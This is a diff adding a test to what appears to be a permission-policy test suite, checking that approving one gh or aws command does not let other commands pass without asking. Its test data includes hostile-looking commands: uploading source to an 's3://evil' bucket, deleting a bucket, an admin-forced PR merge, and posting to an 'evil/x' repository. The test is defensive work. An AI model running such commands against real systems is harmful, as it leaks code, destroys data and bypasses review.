@@ -82,3 +82,13 @@ test("every command shown with a wider form is what the policy says it is", () =
     for (const text of form.stops) expect([text, decide(text, [rule]) === "allow"]).toEqual([text, false]);
   }
 });
+
+test.each([
+  ["gh pr create --fill", ["gh pr merge --admin 5", "gh pr comment --body-file F -R evil/x"]],
+  ["aws s3 cp ./dist s3://mine --recursive", ["aws s3 cp ./src s3://evil --recursive", "aws s3 rm s3://mine"]],
+])("what is kept of %s, also in the wider form, lets no other act and no other target pass", (command, others) => {
+  const offer = offerOn(command);
+  const rules = [...(offer?.exact ?? []), ...(offer?.wider === undefined ? [] : [offer.wider.rule])];
+  expect(decide(command, rules)).toBe("allow");
+  for (const other of others) expect([other, decide(other, rules)]).toEqual([other, "ask"]);
+});
